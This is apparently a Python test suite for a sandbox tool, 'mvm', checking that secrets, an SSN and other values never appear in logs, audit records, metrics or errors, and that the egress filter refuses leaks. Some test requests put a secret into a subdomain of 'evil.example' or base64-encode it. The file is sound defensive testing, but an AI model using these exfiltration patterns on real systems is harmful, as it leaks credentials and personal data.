"""What is written down and shown holds no value of anybody's: a matrix of what may leak and where it could."""
import base64
import http.server
import json
import os
import pathlib
import random
import tempfile
import urllib.parse

from harness import equal, expect, has, mvm, ok, sandbox, sandbox_json
from test_network import certified, internet, python
from test_secrets import files_with

_random = random.Random(20260131)


def _word(length=20):
    return "".join(_random.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(length))


# Each is found by the middle of it alone, so that a cut one is found too.
CORE = {kind: _word() for kind in ("secret", "personal data", "payload", "argument", "environment")}
SECRET = "sk-lab-" + CORE["secret"] + "-0123456789"
MAIL = CORE["personal data"] + "@example.com"
PAYLOAD = "payload " + CORE["payload"] + " of nobody's business"
ARGUMENT = "--argument=" + CORE["argument"]
ENVIRONMENT = "value " + CORE["environment"]
SSN = "234-56-7891"


def writings(core):
    """The ways in which it would be recognised: as it is, in hexadecimal digits, in base64 wherever that begins, percent-encoded."""
    raw = core.encode()
    yield raw
    yield raw.hex().encode()
    yield "".join(f"%{byte:02x}" for byte in raw).encode()
    yield "".join(f"%{byte:02X}" for byte in raw).encode()
    for before in range(3):
        # Without the letters that hold bits of the neighbours.
        yield base64.b64encode(b"x" * before + raw)[4 if before else 0:-4]


class Echo(http.server.BaseHTTPRequestHandler):
    """Says everything back, and the value in the path of a redirect too."""

    def answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        text = (self.requestline + "\n" + str(self.headers)).encode() + body
        self.send_response(200)
        self.send_header("Content-Length", str(len(text)))
        self.send_header("X-Echo", self.headers.get("Authorization", "-"))
        self.end_headers()
        self.wfile.write(text)

    do_GET = do_POST = answer

    def log_message(self, *_):
        pass


# Target, body, fields of the request as JSON; prints the status, and of a refusal its whole answer.
ASK = r"""
import json, os, sys, urllib.error, urllib.request
fields = {k: v.replace("PLACEHOLDER", os.environ["API_KEY"]) for k, v in json.loads(sys.argv[3]).items()}
try:
    answer = urllib.request.urlopen(urllib.request.Request(sys.argv[1], sys.argv[2].encode() or None, fields), timeout=60)
    print(answer.status)
except urllib.error.HTTPError as error:
    print(error.code, error.headers, error.read().decode())
except OSError as error:
    print("failed", error)
"""

# What is no request at all, in clear.
MALFORMED = r"""
import socket, sys
s = socket.create_connection(("page.example", 80), 30)
s.sendall(b"GET /" + sys.argv[1].encode() + b" HTTP/1.1\r\nHost: page.example\r\nX: " + sys.argv[1].encode() + b"\r\n y\r\n\r\n")
print(s.recv(65536).decode())
"""

MANIFEST = """
[network]
allow_hosts = ["page.example", "other.example", "*.wide.example"]
resolvers = ["127.0.0.1:{port}"]
[network.ai]
metering = true
providers = ["page.example"]
[secrets]
API_KEY = {{ from = "env:LEAK_KEY", hosts = ["page.example"] }}
[pii]
mode = "tokenize"
rules = ["deny us_ssn"]
[env]
LEAK_ENVIRONMENT = "{environment}"
"""


def errors_of_the_guests_requests(name):
    """Sends each kind of value to each place, and returns what the refusals say."""
    said = []

    def ask(url, body="", fields=None):
        said.append(python(name, ASK, url, body, json.dumps(fields or {})))
        return said[-1]
    bearer = {"Authorization": "Bearer PLACEHOLDER"}
    mail, payload = urllib.parse.quote(MAIL), urllib.parse.quote(PAYLOAD)
    equal(ask(f"https://page.example/users/{MAIL}/x?mail={mail}&q={payload}", f"{PAYLOAD} {MAIL}", bearer), "200")
    equal(ask(f"https://page.example/v1/chat/completions?q={payload}",
              json.dumps({"model": MAIL, "messages": [PAYLOAD]}), {"Content-Type": "application/json", **bearer}), "200")
    has(ask(f"https://page.example/{mail}?ssn={SSN}", PAYLOAD), "personal_data")
    has(ask("https://page.example/", f"{PAYLOAD} {SSN}"), "personal_data")
    has(ask(f"https://page.example/{SECRET}", PAYLOAD), "secret_leak")
    has(ask("https://page.example/", PAYLOAD + " " + base64.b64encode(SECRET.encode()).decode()), "secret_leak")
    has(ask("https://page.example/", PAYLOAD, {"X-" + CORE["payload"]: SECRET}), "secret_leak")
    has(ask(f"http://other.example/{mail}", PAYLOAD, bearer), "secret_misuse")
    has(ask("https://page.example/", PAYLOAD, {"Content-Type": "image/png"}), "unreadable")
    for label in (SECRET, SSN):
        has(ask(f"http://{label}.evil.example/"), "failed")
    ask(f"http://{SSN}.wide.example/{MAIL}")
    said.append(python(name, MALFORMED, CORE["payload"]))
    has(said[-1], "400")
    return said


def errors_of_commands(name, manifest, environment):
    """Commands that fail, with values in all that they are given; what mvm says of them."""
    said = []

    def fails(*words):
        result = mvm(*words, env=environment)
        expect(result.code != 0, f"{words}: {result}")
        said.append(result.out + result.err)
    fails("exec", "-e", "GIVEN=" + ENVIRONMENT, name, "--", "/no/such/program", ARGUMENT)
    fails("exec", "-e", "GIVEN=" + ENVIRONMENT, name, "--", "/etc/hostname", ARGUMENT)
    fails("exec", "-w", "/no/such/folder", "-e", "GIVEN=" + ENVIRONMENT, name, "--", "true", ARGUMENT)
    fails("exec", "-u", "nobody-at-all", "-e", "GIVEN=" + ENVIRONMENT, name, "--", "true", ARGUMENT)
    # Not sleep itself: where it comes to run in time it complains of its second argument, by name.
    fails("exec", "--timeout", "100ms", "-e", "GIVEN=" + ENVIRONMENT, name, "--", "sh", "-c", "sleep 60", "sh", ARGUMENT)
    fails("exec", "-e", "=" + ENVIRONMENT, name, "--", "true", ARGUMENT)
    fails("up", "another", "-f", manifest, "--image", "no-such-image", "-e", "GIVEN=" + ENVIRONMENT)
    fails("up", "another", "-f", manifest, "--image", "base", "-e", "API_KEY=" + ENVIRONMENT)
    fails("run", "--image", "base", "--kernel", "none", "-e", "GIVEN=" + ENVIRONMENT, "--", "true", ARGUMENT)
    return said


def sinks(name):
    """Where mvm writes and what it shows, by name."""
    data = pathlib.Path(os.environ["MVM_DATA_DIR"])
    out = {"audit": b"".join(file.read_bytes() for file in sorted((data / "audit").rglob("*.jsonl"))),
           "SQLite": b"".join(file.read_bytes() for file in sorted(data.glob("*.db*"))),
           "logs": b"".join(file.read_bytes() for file in sorted(data.rglob("*.log")))}
    shown = {"audit shown": [("audit", "show", name), ("audit", "show"), ("audit", "export", name), ("logs", name, "--egress")],
             "logs shown": [("logs", name)],
             "metrics": [("metrics",), ("metrics", "--otlp")],
             "use of AI": [("ai", "usage"), ("ai", "usage", "--json")],
             "inspect": [("inspect", name, "--json"), ("ps", "-a", "--json")]}
    for sink, commands in shown.items():
        out[sink] = b"".join(ok(*words).raw for words in commands)
    return out


def test_no_value_is_written_down_or_shown():
    """Secrets, personal data, payloads, arguments and environments are in no record, log, figure, database or error."""
    environment = {"LEAK_KEY": SECRET}
    with internet() as names, tempfile.TemporaryDirectory() as folder, certified("page.example", folder, Echo):
        manifest = folder + "/mvm.toml"
        with open(manifest, "w", encoding="utf-8") as file:
            file.write(MANIFEST.format(port=names.port, environment=ENVIRONMENT))
        with sandbox("leaky", "-f", manifest, env=environment):
            has(ok("exec", "-e", "GIVEN=" + ENVIRONMENT, "leaky", "--", "sh", "-c", "echo $LEAK_ENVIRONMENT $GIVEN", ARGUMENT).out,
                ENVIRONMENT + " " + ENVIRONMENT)
            errors = errors_of_the_guests_requests("leaky") + errors_of_commands("leaky", manifest, environment)
            # A record that a killed process has left half, and what starts again.
            ok("down", "leaky")
            ok("up", "leaky", "-f", manifest, env=environment)
            equal(ok("exec", "leaky", "--", "sh", "-c", "echo $LEAK_ENVIRONMENT").out, ENVIRONMENT + "\n")
            found = {**sinks("leaky"), "errors": "\n".join(errors).encode()}
            # Each sink has in it what it is for, so that this looks at the right places.
            for sink, word in {"audit": b'"secret_used"', "SQLite": b"leaky", "logs": b"sandbox started", "audit shown": b"pii_tokenized",
                               "metrics": b'instance="leaky"', "use of AI": b"leaky", "errors": b"secret_leak",
                               "inspect": b"LEAK_KEY"}.items():
                has(found[sink], word)
            leaks = [(kind, sink) for kind, core in CORE.items() for sink, text in found.items()
                     for written in writings(core) if written in text]
            leaks += [("personal data", sink) for sink, text in found.items() if SSN.encode() in text]
            equal(sorted(set(leaks)), [], "values and where they are")
            # And in no other file: the guest's own disk has what it wrote itself, which was nothing.
            for kind, core in CORE.items():
                equal(files_with(core.encode()), [], kind)
            expect(sandbox_json("leaky")["state"] == "running", "it still runs")
